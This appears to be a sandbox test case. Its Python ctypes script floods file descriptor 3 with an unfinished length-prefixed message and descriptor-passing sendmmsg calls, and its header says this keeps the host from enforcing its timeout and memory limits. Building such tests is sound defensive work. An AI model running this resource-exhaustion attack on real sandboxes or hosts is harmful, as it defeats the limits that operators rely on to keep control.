# profile: confined-python
# limits: memory_mb=150
# timeout: 1
# ends: timeout violation crashed
# holds: memory=500
# proves: an unfinished message that trickles in with descriptors keeps the host from its clock

import ctypes, os, time
from ctypes import *
class iovec(Structure): _fields_ = [('b', c_void_p), ('n', c_size_t)]
class msghdr(Structure): _fields_ = [('name', c_void_p), ('nl', c_uint), ('iov', c_void_p), ('iovlen', c_size_t), ('ctl', c_void_p), ('ctllen', c_size_t), ('flags', c_int)]
class mmsghdr(Structure): _fields_ = [('h', msghdr), ('len', c_uint)]
class cm(Structure): _fields_ = [('len', c_size_t), ('level', c_int), ('type', c_int), ('fd', c_int), ('pad', c_int)]
N = 128
byte = create_string_buffer(b'x'); iov = iovec(addressof(byte), 1); c = cm(20, 1, 1, 0, 0)
arr = (mmsghdr * N)()
for a in arr:
    a.h.iov = addressof(iov); a.h.iovlen = 1; a.h.ctl = addressof(c); a.h.ctllen = 24
libc = CDLL(None)
os.write(3, (8 << 20).to_bytes(4, 'little'))
while True:
    if libc.sendmmsg(3, byref(arr), N, 0) < 0:
        os.write(3, b'x')
